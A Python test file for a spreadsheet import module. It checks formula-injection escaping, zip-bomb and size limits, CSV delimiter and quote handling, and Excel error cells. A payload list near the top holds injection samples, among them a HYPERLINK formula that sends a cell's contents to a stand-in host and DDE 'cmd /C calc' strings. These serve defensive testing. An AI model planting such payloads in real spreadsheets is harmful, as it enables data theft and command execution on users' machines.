"""The cells of a sheet (:mod:`ledarskap.io._sheets`): bounded work, and no formula injection."""

from __future__ import annotations

import datetime as dt
import io
import re
import time
import tracemalloc
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ledarskap.errors import DocumentError, InvalidValueError
from ledarskap.io import _sheets, read_sheet, spreadsheets
from ledarskap.io._sheets import (
    MAX_CELL,
    MAX_COLUMNS,
    MAX_ROWS,
    escape_cell,
    read_csv_rows,
    read_xlsx_rows,
    unescape_cell,
    write_csv,
    write_xlsx,
)
from tests.io._swedish import english_words

openpyxl = pytest.importorskip("openpyxl")

HEADER = ["Förnamn", "Efternamn", "Kommun"]
# Text an XLSX cell can hold: no control characters but tab and line breaks (XML 1.0).
XLSX_TEXT = st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="\x00\r").filter(
        lambda c: c in "\t\n" or ord(c) >= 0x20
    )
)


# Formula injection ------------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_program_would_run_is_written_as_text(payload: str) -> None:
    """OWASP: a cell beginning with = + - @ tab or CR gets a leading ' (shown as text)."""
    assert escape_cell(payload) == "'" + payload
    content = write_csv([HEADER, [payload, "x", "y"]]).decode("utf-8-sig")
    second_line = content.split("\r\n", 1)[1]
    assert second_line.lstrip('"').startswith("'")
    assert read_csv_rows(write_csv([HEADER, [payload, "x", "y"]]), "s")[1][0] == payload


@pytest.mark.parametrize(
    ("cell", "escaped"),
    [("Anna", "Anna"), ("", ""), ("'", "'"), ("'Anna", "'Anna"), ("'=1", "''=1"), ("a=1", "a=1")],
)
def test_exactly_the_cells_that_need_it_are_escaped(cell: str, escaped: str) -> None:
    assert escape_cell(cell) == escaped
    assert unescape_cell(escaped) == cell


def test_a_cell_escaped_by_hand_in_another_program_reads_without_its_quote() -> None:
    """The rule is documented: a leading ' before a formula character is the escape."""
    assert read_csv_rows(b"a;b\r\n'=1+1;'+46 70\r\n", "s")[1] == ["=1+1", "+46 70"]


@given(st.text())
def test_escaping_reads_back_to_the_text(text: str) -> None:
    """Law: unescape_cell(escape_cell(t)) == t for every text t."""
    assert unescape_cell(escape_cell(text)) == text


@given(st.lists(st.lists(st.text().filter(lambda t: "\x00" not in t), min_size=1), max_size=5))
def test_csv_reads_back_every_text_written(rows: list[list[str]]) -> None:
    """Law: rows under a header written as CSV read back as the same rows of the same text."""
    written = [HEADER, *rows]
    assert read_csv_rows(write_csv(written), "s") == written


@settings(max_examples=25, deadline=None)
@given(st.lists(st.lists(XLSX_TEXT, min_size=1, max_size=4), max_size=3))
def test_xlsx_reads_back_every_text_written(rows: list[list[str]]) -> None:
    """Law: rows written as XLSX read back as the same text.

    Empty cells at the end of a row, and empty rows at the end of the sheet, are not read
    (an XLSX file does not hold them); XML turns a carriage return into a line feed, so
    texts here hold none.
    """
    written = [HEADER, *rows]
    expected = [row[: max((i + 1 for i, c in enumerate(row) if c), default=0)] for row in written]
    while not expected[-1]:
        expected.pop()
    assert read_xlsx_rows(write_xlsx(written, title="t"), "s") == expected


def test_an_xlsx_cell_cannot_hold_a_control_character() -> None:
    with pytest.raises(InvalidValueError, match="row 2, column 1: expected text without control"):
        write_xlsx([HEADER, ["a\x01b"]], title="deltagare")


# Bounded work -----------------------------------------------------------------------------


def patched_xlsx(sheet_xml: Callable[[str], str]) -> bytes:
    """A workbook with a header, its worksheet's XML changed by *sheet_xml*."""
    book = openpyxl.Workbook()
    book.active.append(HEADER)
    buffer = io.BytesIO()
    book.save(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = sheet_xml(data.decode()).encode()
            zf.writestr(item, data)
    return out.getvalue()


def claim(xml: str, dimension: str) -> str:
    return re.sub(r'<dimension ref="[^"]*" ?/>', f'<dimension ref="{dimension}"/>', xml)


def cell_at(xml: str, ref: str, row: int, *, value: str = "x") -> str:
    cell = (
        f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'
        if value
        else f'<c r="{ref}" s="0"/>'
    )
    return xml.replace("</sheetData>", f'<row r="{row}">{cell}</row></sheetData>')


def timed(read: Callable[[], object]) -> tuple[object, float]:
    start = time.perf_counter()
    try:
        result: object = read()
    except DocumentError as error:
        result = error
    return result, time.perf_counter() - start


def test_a_cell_at_the_grids_end_is_refused_at_once() -> None:
    """A 5 KB file with one cell at XFD1048576 (and a dimension claiming the whole grid)."""
    content = patched_xlsx(lambda xml: cell_at(claim(xml, "A1:XFD1048576"), "XFD1048576", 1048576))
    assert len(content) < 10_000
    error, seconds = timed(lambda: read_xlsx_rows(content, "bomb.xlsx"))
    assert isinstance(error, DocumentError)
    assert str(error.problems[0]) == (
        f"bomb.xlsx, row 1048576: a sheet may have at most {MAX_ROWS:,} rows"
    )
    assert seconds < 2


def test_a_dimension_claiming_the_whole_grid_costs_nothing() -> None:
    content = patched_xlsx(lambda xml: claim(xml, "A1:XFD1048576"))
    rows, seconds = timed(lambda: read_xlsx_rows(content, "s"))
    assert rows == [HEADER]
    assert seconds < 2


def test_a_cell_outside_the_claimed_dimension_is_read_not_dropped() -> None:
    content = patched_xlsx(lambda xml: cell_at(claim(xml, "A1:C1"), "B3", 3))
    assert read_xlsx_rows(content, "s") == [HEADER, [], ["", "x"]]


def test_empty_styled_cells_far_out_are_not_a_grid() -> None:
    def styled(xml: str) -> str:
        rows = "".join(f'<row r="{n}"><c r="XFD{n}" s="0"/></row>' for n in range(2, 20_000))
        return xml.replace("</sheetData>", rows + "</sheetData>")

    rows, seconds = timed(lambda: read_xlsx_rows(patched_xlsx(styled), "s"))
    assert rows == [HEADER]
    assert seconds < 5


def test_a_value_beyond_the_last_column_allowed_is_refused() -> None:
    content = patched_xlsx(lambda xml: cell_at(xml, "XFD2", 2))
    with pytest.raises(DocumentError, match=r"row 2: a value in column 16,384: .* at most 200"):
        read_xlsx_rows(content, "s")


def test_a_cell_longer_than_excel_allows_is_refused_in_xlsx() -> None:
    content = patched_xlsx(lambda xml: cell_at(xml, "A2", 2, value="x" * (MAX_CELL + 1)))
    with pytest.raises(DocumentError, match=r"32,768 characters in column 1: .* at most 32,767"):
        read_xlsx_rows(content, "s")


def test_an_xlsx_that_unpacks_to_more_than_the_limit_is_refused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    content = patched_xlsx(lambda xml: xml)
    monkeypatch.setattr(_sheets, "MAX_UNPACKED", len(content))  # packed, it is within
    with pytest.raises(
        DocumentError, match=rf"the file unpacks to [\d,]+ bytes: .* at most {len(content):,}"
    ):
        read_xlsx_rows(content, "s")


def test_an_xlsx_larger_than_the_limit_is_refused_as_too_large_not_as_no_workbook(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """A file over the limit is read to the limit only: that part is no zip, but too large."""
    content = patched_xlsx(lambda xml: xml)
    monkeypatch.setattr(_sheets, "MAX_UNPACKED", len(content) - 1)
    with pytest.raises(DocumentError, match=rf"an XLSX file may hold at most {len(content) - 1:,}"):
        read_xlsx_rows(content[: len(content)], "s")
    path = tmp_path / "stor.xlsx"
    path.write_bytes(content)
    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED", len(content) - 1)
    with pytest.raises(DocumentError) as raised:
        read_sheet(path, "participants", cohort_id="c")
    assert [p.code for p in raised.value.problems] == ["too-large"]


def test_a_row_with_more_cells_than_a_worksheet_has_columns_is_refused_as_it_is_read() -> None:
    """16,385 empty cells in one row: refused without holding the row in memory."""
    content = patched_xlsx(
        lambda xml: xml.replace(
            "</sheetData>", '<row r="2">' + '<c s="0"/>' * 16_385 + "</row></sheetData>"
        )
    )
    with pytest.raises(DocumentError, match="row 2: more than 16,384 cells in one row"):
        read_xlsx_rows(content, "s")


def test_cells_without_coordinates_are_placed_one_after_the_other() -> None:
    cells = '<c t="inlineStr"><is><t>a</t></is></c><c/><c t="inlineStr"><is><t>b</t></is></c>'
    content = patched_xlsx(
        lambda xml: xml.replace("</sheetData>", f"<row>{cells}</row></sheetData>")
    )
    assert read_xlsx_rows(content, "s") == [HEADER, ["a", "", "b"]]


def test_a_part_that_unpacks_more_than_a_hundredfold_is_refused() -> None:
    """Apache POI's zip-bomb check: a part over 1 MiB may unpack at most 100-fold."""
    bomb = '<row><c s="0"/></row>' * 100_000
    content = patched_xlsx(lambda xml: xml.replace("</sheetData>", bomb + "</sheetData>"))
    with pytest.raises(
        DocumentError, match=r"sheet1\.xml unpacks [\d,]+-fold: .* at most 100-fold"
    ):
        read_xlsx_rows(content, "s")


def test_a_damaged_worksheet_is_a_document_error() -> None:
    content = patched_xlsx(lambda xml: xml.replace("</sheetData>", "<row r='x'></row></sheetData>"))
    with pytest.raises(DocumentError, match=r"a damaged worksheet \(ValueError\)"):
        read_xlsx_rows(content, "s")


def test_a_csv_file_larger_than_the_limit_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_sheets, "MAX_UNPACKED", 9)
    with pytest.raises(DocumentError, match="a CSV file may hold at most 9 bytes"):
        read_csv_rows(b"a;b\r\n1;2\r\n", "s")


def test_csv_rows_up_to_the_limit_are_read_and_beyond_it_refused() -> None:
    lines = "a;b\r\n" + "1;2\r\n" * (MAX_ROWS - 1)
    assert len(read_csv_rows(lines.encode(), "s")) == MAX_ROWS
    with pytest.raises(DocumentError, match=r"s, row 100,001|s, row 100001"):
        read_csv_rows((lines + "1;2\r\n").encode(), "s")


def test_csv_columns_beyond_the_limit_are_refused_only_with_a_value() -> None:
    wide = ";".join(["a"] * MAX_COLUMNS) + ";" * 50 + "\r\n"
    assert len(read_csv_rows(wide.encode(), "s")[0]) == MAX_COLUMNS
    with pytest.raises(DocumentError, match="a value in column 201: a sheet may use at most 200"):
        read_csv_rows((wide.rstrip(";\r\n") + ";x\r\n").encode(), "s")


@pytest.mark.parametrize("length", [MAX_CELL + 1, 200_000])
def test_a_csv_cell_longer_than_excel_allows_is_refused(length: int) -> None:
    with pytest.raises(DocumentError, match=r"row 2: .*a cell may hold at most 32,767"):
        read_csv_rows(f"a;b\r\n{'x' * length};y\r\n".encode(), "s")


def test_a_cell_as_long_as_allowed_reads_in_time_linear_in_its_length() -> None:
    """Reading a cell of n characters takes time proportional to n, not n²."""
    small, large = MAX_CELL // 16, MAX_CELL

    def seconds(length: int) -> float:
        content = f"a;b\r\n{'=' * length};{'1 ' * (length // 2)}\r\n".encode()
        return min(timed(lambda: read_csv_rows(content, "s"))[1] for _ in range(3))

    assert seconds(large) < max(0.5, 64 * seconds(small))


# Quotes and delimiters that break rows ----------------------------------------------------


def test_an_unbalanced_quote_is_reported_with_its_line() -> None:
    content = (
        'Förnamn;Efternamn;Kommun\r\nAnna;"Berg;Linköping\r\nErik;Lund;Motala\r\nEva;Ek;Mjölby\r\n'
    ).encode()
    found = _sheets.read_csv(content, "s.csv")
    assert len(found.rows) == 2
    problem = found.broken[2]
    assert (problem.code, problem.row, problem.line) == ("unbalanced-quote", 2, 2)
    assert "a quote opened on line 2 (column 2) is not closed until line 4" in problem.message
    assert problem.hint is not None


def test_a_cell_with_line_breaks_is_not_a_broken_quote() -> None:
    content = 'Förnamn;Anteckningar\r\nAnna;"första raden\r\nandra raden"\r\n'.encode()
    found = _sheets.read_csv(content, "s.csv")
    assert found.rows[1] == ["Anna", "första raden\r\nandra raden"]
    assert found.broken == {}
    assert found.lines == [1, 2]


def test_mixed_delimiters_are_named_as_the_likely_cause() -> None:
    content = "Förnamn;Efternamn;Kommun\r\nAnna;Berg;Linköping\r\nErik,Lund,Motala\r\n".encode()
    found = _sheets.read_csv(content, "s.csv")
    problem = found.broken[3]
    assert (problem.code, problem.row, problem.line) == ("mixed-delimiters", 3, 3)
    assert "separated by ',', the header by ';' (mixed delimiters?)" in problem.message
    tabbed = _sheets.read_csv(b"a\tb\tc\r\n1;2;3\r\n", "s.csv")
    assert "the header by a tab" in tabbed.broken[2].message
    assert "a\tb" not in tabbed.broken[2].message


def test_a_row_of_one_cell_without_other_delimiters_is_not_broken() -> None:
    found = _sheets.read_csv("a;b;c\r\nAnna\r\nLinköping, Sverige\r\n".encode(), "s.csv")
    assert found.broken == {}


def test_the_delimiter_is_found_below_a_title() -> None:
    found = _sheets.read_csv(b"Deltagare 2026\r\n\r\na,b,c\r\n1,2,3\r\n", "s.csv")
    assert found.delimiter == ","
    assert _sheets.read_csv(b"one\r\ntwo\r\n", "s.csv").delimiter == ","


def test_excel_sep_line_says_the_delimiter_and_is_not_a_row() -> None:
    found = _sheets.read_csv(b'sep=,\r\na;b,c\r\n1;2,"3\r\n4,5"\r\n', "s.csv")
    assert found.delimiter == ","
    assert found.rows == [["a;b", "c"], ["1;2", "3\r\n4,5"]]
    assert found.lines == [2, 3]
    quote = _sheets.read_csv(b'sep=;\r\na;b\r\n1;"2\r\n3;4\r\n', "s.csv").broken[2]
    assert quote.line == 3
    assert "not closed until line 4" in quote.message


def test_long_cells_are_folded_but_never_kept() -> None:
    """A hostile sheet's long cells cost their reading only, not memory held after it."""
    long = "Förvaltning" * 1000
    before = _sheets._fold.cache_info().currsize
    assert _sheets.fold(long) == "forvaltning" * 1000
    assert _sheets._fold.cache_info().currsize == before
    assert _sheets.fold("E-post") == "epost"


def test_a_carriage_return_is_refused_in_xlsx_not_turned_into_a_line_feed() -> None:
    """XML reads a carriage return as a line feed: an XLSX cell cannot hold "a\r\nb" as it is,
    so writing it is refused (naming the cell); CSV holds it and reads it back."""
    rows = [HEADER, ["a\r\nb", "x", "y"]]
    with pytest.raises(InvalidValueError, match="row 2, column 1: expected text without control"):
        write_xlsx(rows, title="mentors")
    assert read_csv_rows(write_csv(rows), "s")[1][0] == "a\r\nb"


def test_a_sheet_too_large_or_unreadable_in_swedish() -> None:
    wide = ";".join(["a"] * MAX_COLUMNS) + ";x\r\n"
    with pytest.raises(DocumentError) as raised:
        read_csv_rows(wide.encode(), "s")
    assert raised.value.render("sv") == (
        "s: bladet är för stort för att läsas (1 problem)\n"
        "  - s, rad 1: ett värde i kolumn 201: ett blad får använda högst 200 kolumner"
    )
    with pytest.raises(DocumentError) as raised:
        read_csv_rows(f"a;b\r\n{'x' * (MAX_CELL + 1)};y\r\n".encode(), "s")
    assert raised.value.problems[0].render("sv") == (
        "s, rad 2: 32\xa0768 tecken i kolumn 1: en cell får rymma högst 32\xa0767 (som i Excel)"
    )
    with pytest.raises(DocumentError) as raised:
        read_csv_rows(b"a\x00b", "s")
    assert raised.value.render("sv") == (
        "s: kan inte läsa filen som CSV (1 problem)\n"
        "  - s: förväntade text, fick NUL-tecken (en binärfil?)"
    )
    with pytest.raises(DocumentError) as raised:
        read_xlsx_rows(b"PK not a workbook", "s")
    assert raised.value.render("sv") == (
        "s: kan inte läsa filen som XLSX (1 problem)\n  - s: ingen XLSX-arbetsbok (BadZipFile)"
    )


def test_a_text_an_xlsx_cell_cannot_hold_in_swedish() -> None:
    with pytest.raises(InvalidValueError) as raised:
        write_xlsx([["a\rb"]], title="deltagare")
    assert raised.value.render("sv") == (
        "bladet deltagare, rad 1, kolumn 1: förväntade text utan styrtecken eller vagnreturer "
        "(en XLSX-cell kan inte rymma dem: en vagnretur läses tillbaka som en radmatning; CSV "
        "kan), fick 'a\\rb'"
    )
    assert str(raised.value).startswith("the deltagare sheet, row 1, column 1: expected text")


# Files that are not what they seem --------------------------------------------------------

_PARTICIPANTS = "Förnamn;Efternamn;Kommun;Förvaltning;Befattning;Startdatum\r\n"
_ROW = "Anna;Berg;Linköping;Soc;Socialchef;2025-09-01\r\n"


@pytest.mark.parametrize(
    "after",
    [
        _ROW * 3_000,  # a cell longer than a cell may hold: csv gives the row
        _ROW * 10_000,  # longer than csv reads a cell: csv gives up
        "Erik;Lund\r\n" * 30_000,  # more delimiters than a worksheet has columns
    ],
)
def test_an_unbalanced_quote_is_one_whatever_follows_it(after: str) -> None:
    content = (_PARTICIPANTS + _ROW + 'Eva;"Ek;Linköping;Soc;Chef;2025-09-01\r\n' + after).encode()
    sheet = read_sheet(content, "participants", cohort_id="c", name="d.csv")
    assert [(p.row, p.line, p.code) for p in sheet.problems] == [(3, 3, "unbalanced-quote")]
    assert len(sheet.participants) == 1  # the row before it
    assert english_words(sheet.problems[0].render("sv")) == []


def test_a_row_of_more_delimiters_than_columns_is_refused_before_its_cells_are_made() -> None:
    """120 million ``;`` took 2.5 GB as csv's cells; the row is refused as its line is read."""
    content = (_PARTICIPANTS + ";" * 2_000_000 + "\r\n").encode()
    tracemalloc.start()
    try:
        with pytest.raises(DocumentError) as raised:
            read_sheet(content, "participants", cohort_id="c", name="d.csv")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert str(raised.value.problems[0]) == (
        "d.csv, row 2: at least 16,384 delimiters (';') in one row "
        "(more cells than a worksheet has columns)"
    )
    assert peak < 5 * len(content)  # two million cells would be 16 MB of list alone


def test_the_delimiter_is_the_one_that_splits_the_header_into_known_columns() -> None:
    """A note of commas above a header of ``;`` (Windows-1252, as Excel saves CSV)."""
    content = ("Lista, uppdaterad 2026-01-10, se nedan\r\n" + _PARTICIPANTS + _ROW).encode("cp1252")
    sheet = read_sheet(content, "participants", cohort_id="c")
    assert sheet.ok, sheet.problems
    assert sheet.inspection is not None
    assert (sheet.inspection.delimiter, sheet.inspection.header_row) == (";", 2)
    commas = read_sheet("Förnamn,Efternamn\r\nÅsa,Öberg\r\n".encode("cp1252"), "mentors")
    assert commas.inspection is not None
    assert commas.inspection.delimiter == ","


def test_a_header_of_no_known_column_names_the_delimiter_it_was_split_by() -> None:
    sheet = read_sheet(b"Vorname|Nachname\r\nA|B\r\n", "participants", cohort_id="c")
    [unknown] = [p for p in sheet.problems if p.code == "unknown-column"]
    assert unknown.hint == (
        "no header is known when the line is split by ',': is the file separated by something else?"
    )
    assert english_words(unknown.render("sv")) == []


def test_excel_error_cells_and_formulas_without_a_value_are_problems(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append([*_PARTICIPANTS.strip().split(";"), "E-post"])
    book.active.append(
        ["Anna", "Berg", "Linköping", "#N/A", "#REF!", "2025-09-01", '=LOWER("A@B.SE")']
    )
    path = tmp_path / "d.xlsx"
    book.save(path)
    sheet = read_sheet(path, "participants", cohort_id="c")
    assert [(p.row, p.column, p.code) for p in sheet.problems] == [
        (2, "Förvaltning", "excel-error"),
        (2, "Befattning", "excel-error"),
        (2, "E-post", "formula-without-value"),
    ]
    assert str(sheet.problems[0]).endswith(
        "expected a value, found an Excel error #N/A (correct the cell or its formula in Excel)"
    )
    assert "open and save the file in Excel" in str(sheet.problems[2])
    for problem in sheet.problems:
        assert english_words(problem.render("sv")) == []


def test_a_formula_with_its_value_and_an_empty_cell_read_as_before() -> None:
    content = patched_xlsx(
        lambda xml: xml.replace(
            "</sheetData>",
            '<row r="2"><c r="A2" t="str"><f>"An"&amp;"na"</f><v>Anna</v></c>'
            '<c r="B2" s="0"/><c r="C2" t="str"><f>""</f><v></v></c>'
            '<c r="D2" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
        )
    )
    assert read_xlsx_rows(content, "s") == [HEADER, ["Anna", "", "", "x"]]
    uncomputed = patched_xlsx(
        lambda xml: xml.replace(
            "</sheetData>", '<row r="2"><c r="A2"><f>1+1</f></c></row></sheetData>'
        )
    )
    [cell] = read_xlsx_rows(uncomputed, "s")[1]
    assert isinstance(cell, _sheets.Unreadable)
    assert cell.code == "formula-without-value"


def _participants_xlsx(patch: Callable[[str, bytes], bytes | None]) -> bytes:
    """A participants workbook of one row, its parts changed by *patch* (``None``: left out)."""
    book = openpyxl.Workbook()
    book.active.append(_PARTICIPANTS.strip().split(";"))
    book.active.append(["Anna", "Berg", "Linköping", "Soc", "Chef", dt.date(2025, 9, 1)])
    buffer = io.BytesIO()
    book.save(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(out, "w") as patched:
        for item in source.infolist():
            data = patch(item.filename, source.read(item.filename))
            if data is not None:
                patched.writestr(item, data)
    return out.getvalue()


def test_a_date_beyond_excels_is_a_problem_not_a_warning() -> None:
    """openpyxl warns "Cell F2 is marked as a date but …": the user gets a problem instead."""

    def beyond(name: str, data: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return data
        return re.sub(rb'(<c r="F2"[^>]*><v>)[^<]*', rb"\g<1>1e300", data)

    with warnings.catch_warnings():
        warnings.simplefilter("error")  # a warning fails the read
        sheet = read_sheet(_participants_xlsx(beyond), "participants", cohort_id="c")
    assert [(p.row, p.column, p.code) for p in sheet.problems] == [
        (2, "Startdatum", "invalid-date")
    ]
    assert "a date cell of the number 1e+300" in str(sheet.problems[0])
    assert english_words(sheet.problems[0].render("sv")) == []


def test_openpyxls_warnings_of_parts_not_read_do_not_reach_the_user() -> None:
    """A sheet element without its part, as older XLSM files hold: openpyxl warns of it."""

    def stale(name: str, data: bytes) -> bytes:
        if name != "xl/workbook.xml":
            return data
        return data.replace(b"</sheets>", b'<sheet name="Gammal" sheetId="9"/></sheets>')

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        sheet = read_sheet(_participants_xlsx(stale), "participants", cohort_id="c")
    assert sheet.ok, sheet.problems


# Excel errors in a CSV file ---------------------------------------------------------------

_EXCEL_ERRORS = sorted(_sheets._EXCEL_ERRORS)
_XLSX_ERRORS = [
    "#NULL!",
    "#DIV/0!",
    "#VALUE!",
    "#REF!",
    "#NAME?",
    "#NUM!",
    "#N/A",
    "#GETTING_DATA",
    "#SPILL!",
    "#CALC!",
    "#FIELD!",
    "#BLOCKED!",
    "#CONNECT!",
    "#BUSY!",
    "#UNKNOWN!",
    "#EXTERNAL!",
    "#PYTHON!",
]
"""The errors an XLSX file holds: their English names, whatever the language of the Excel."""


def _xlsx_with_errors(rows: list[list[str]]) -> bytes:
    """A participants workbook of *rows*, each cell a text or, if an error's name, an error."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(_PARTICIPANTS.strip().split(";"))
    for number, row in enumerate(rows, start=2):
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(number, column, value)
            if value in _XLSX_ERRORS:
                cell.data_type = "e"  # openpyxl makes only the seven of old errors by itself
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _problems(sheet: spreadsheets.SheetImport) -> list[tuple[object, ...]]:
    return [
        (p.row, p.column, p.code, p.render("sv"), p.render("en"), p.hint, p.hint_sv)
        for p in sheet.problems
    ]


def test_an_excel_error_in_a_csv_cell_is_the_problem_an_xlsx_error_cell_is() -> None:
    """Excel saves an error cell as CSV as the error's name: read as the workbook's cell is."""
    row = ["Anna", "Berg", "Linköping", "#N/A", "#REF!", "2025-09-01"]
    csv_sheet = read_sheet(
        (_PARTICIPANTS + ";".join(row) + "\r\n").encode(), "participants", cohort_id="c", name="d"
    )
    xlsx_sheet = read_sheet(_xlsx_with_errors([row]), "participants", cohort_id="c", name="d")
    assert _problems(csv_sheet) == _problems(xlsx_sheet)
    assert [(p.row, p.column, p.code) for p in csv_sheet.problems] == [
        (2, "Förvaltning", "excel-error"),
        (2, "Befattning", "excel-error"),
    ]
    assert str(csv_sheet.problems[0]) == (
        "d, row 2, column 'Förvaltning': expected a value, found an Excel error #N/A "
        "(correct the cell or its formula in Excel)"
    )
    assert csv_sheet.problems[1].render("sv") == (
        "d, rad 2, kolumn 'Befattning': förväntade ett värde, fick Excel-felet #REF! "
        "(rätta cellen eller formeln i Excel)"
    )
    assert not csv_sheet.participants


def test_a_swedish_excels_errors_in_a_csv_file_are_problems_named_as_written() -> None:
    """Windows-1252 and ``;``, as a Swedish Excel saves CSV; its errors in Swedish."""
    content = (_PARTICIPANTS + "Anna;Berg;Linköping; #SAKNAS! ;#VÄRDEFEL!;#division/0!\r\n").encode(
        "cp1252"
    )
    sheet = read_sheet(content, "participants", cohort_id="c", name="d.csv")
    assert [(p.column, p.code) for p in sheet.problems] == [
        ("Förvaltning", "excel-error"),
        ("Befattning", "excel-error"),
        ("Startdatum", "excel-error"),
    ]
    assert [p.render("sv") for p in sheet.problems] == [
        f"d.csv, rad 2, kolumn '{column}': förväntade ett värde, fick Excel-felet {error} "
        "(rätta cellen eller formeln i Excel)"
        for column, error in [
            ("Förvaltning", "#SAKNAS!"),  # trimmed, as every cell is
            ("Befattning", "#VÄRDEFEL!"),
            ("Startdatum", "#division/0!"),  # as written
        ]
    ]
    assert str(sheet.problems[0]).endswith(
        "expected a value, found an Excel error #SAKNAS! (correct the cell or its formula in Excel)"
    )
    for problem in sheet.problems:
        assert english_words(problem.render("sv")) == []


@pytest.mark.parametrize(
    "cell", ["#N/A text", "Nr #1", "#", "#N/A!", "##N/A", "#SAKNAS", "N/A", "#N /A"]
)
def test_a_cell_that_is_more_or_less_than_an_error_is_text(cell: str) -> None:
    content = (_PARTICIPANTS + f"Anna;Berg;Linköping;{cell};Chef;2025-09-01\r\n").encode()
    sheet = read_sheet(content, "participants", cohort_id="c")
    assert sheet.ok, sheet.problems
    assert sheet.appointments[0].organisation == cell


@pytest.mark.parametrize("error", _EXCEL_ERRORS)
def test_every_error_is_known_in_any_case_and_white_space(error: str) -> None:
    for written in (error, error.lower(), error.title(), f"  {error}\t"):
        assert _sheets.excel_error(written) == written.strip()
    assert _sheets.excel_error(error + " x") is None
    assert _sheets.excel_error("x" + error) is None


@given(
    st.integers(0, 3),
    st.sampled_from(_EXCEL_ERRORS),
    st.sampled_from([str.upper, str.lower, str.title]),
    st.text(" \t", max_size=2),
)
def test_a_text_that_is_an_error_name_is_written_so_it_reads_back_as_text(
    quotes: int, error: str, case: Callable[[str], str], padding: str
) -> None:
    """Law: a text spelling an Excel error, after any ``'``, reads back as that text, in CSV.

    Escaped like a formula, so that the reader does not take it for the error it names.
    """
    text = "'" * quotes + padding + case(error) + padding
    assert escape_cell(text) == "'" + text
    assert unescape_cell(escape_cell(text)) == text
    [_, [cell, *_]] = read_csv_rows(write_csv([HEADER, [text, "x", "y"]]), "s")
    assert cell == text
    assert not isinstance(cell, _sheets.Unreadable)


def test_a_text_written_as_an_error_is_escaped_back_as_text() -> None:
    r"""The writer's escape is exact: ``"\t#N/A"`` reads back as text, not trimmed to an error."""
    [_, [cell]] = read_csv_rows(write_csv([HEADER, ["\t#N/A"]]), "s")
    assert cell == "\t#N/A"
    assert not isinstance(cell, _sheets.Unreadable)
    [_, [escaped]] = read_csv_rows(b"a\r\n'#N/A\r\n", "s")  # as the writer escapes it
    assert escaped == "#N/A"
    assert not isinstance(escaped, _sheets.Unreadable)
    [_, [error]] = read_csv_rows(b"a\r\n#N/A\r\n", "s")
    assert isinstance(error, _sheets.Unreadable)
    assert error.code == "excel-error"


_VALID = ["Anna", "Berg", "Linköping", "Soc", "Socialchef", "2025-09-01"]


def _sprinkled(names: list[str]) -> st.SearchStrategy[list[list[str | None]]]:
    """Rows of errors by column, ``None`` where a row's cell holds its valid value."""
    cell = st.one_of(st.none(), st.sampled_from(names))
    return st.lists(st.lists(cell, min_size=6, max_size=6), min_size=1, max_size=4)


def _with_errors(errors: list[list[str | None]], written: Callable[[str], str]) -> list[list[str]]:
    return [
        [
            value if error is None else written(error)
            for value, error in zip(_VALID, row, strict=True)
        ]
        for row in errors
    ]


def _only_errors_at(sheet: spreadsheets.SheetImport, errors: list[list[str | None]]) -> None:
    """One problem for each error of *errors*, at its row and column, and no other problem."""
    header = _PARTICIPANTS.strip().split(";")
    assert [(p.row, p.column, p.code) for p in sheet.problems] == [
        (number, header[column], "excel-error")
        for number, row in enumerate(errors, start=2)
        for column, error in enumerate(row)
        if error is not None
    ]


@settings(max_examples=40, deadline=None)
@given(
    _sprinkled(_EXCEL_ERRORS),
    st.sampled_from([str, str.lower, str.title]),
    st.sampled_from(["", " ", "\t"]),
)
def test_each_error_in_a_csv_file_is_one_problem_at_its_cell(
    errors: list[list[str | None]], case: Callable[[str], str], padding: str
) -> None:
    """Law: a sheet with Excel errors sprinkled in has one ``excel-error`` per error, at its cell.

    Any error's name, English or Swedish, in any case and white space; no other cell is one.
    """
    rows = _with_errors(errors, lambda error: padding + case(error) + padding)
    content = (_PARTICIPANTS + "".join(";".join(row) + "\r\n" for row in rows)).encode()
    _only_errors_at(read_sheet(content, "participants", cohort_id="c"), errors)


@settings(max_examples=20, deadline=None)
@given(_sprinkled(_XLSX_ERRORS))
def test_each_error_in_an_xlsx_file_is_one_problem_at_its_cell(
    errors: list[list[str | None]],
) -> None:
    """Law: as in CSV, one ``excel-error`` per error cell of a workbook, at its cell."""
    content = _xlsx_with_errors(_with_errors(errors, str))
    _only_errors_at(read_sheet(content, "participants", cohort_id="c"), errors)


# openpyxl's warnings ----------------------------------------------------------------------


def _stale_sheet(name: str, data: bytes) -> bytes:
    """A sheet element without its part, as older XLSM files hold."""
    if name != "xl/workbook.xml":
        return data
    return data.replace(b"</sheets>", b'<sheet name="Gammal" sheetId="9"/></sheets>')


def _no_stylesheet(name: str, data: bytes) -> bytes:
    """An empty styles part, as some programs other than Excel write a workbook."""
    if name != "xl/styles.xml":
        return data
    return b'<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'


def _stray_defined_name(name: str, data: bytes) -> bytes:
    """A name defined for a sheet the workbook does not have."""
    if name != "xl/workbook.xml":
        return data
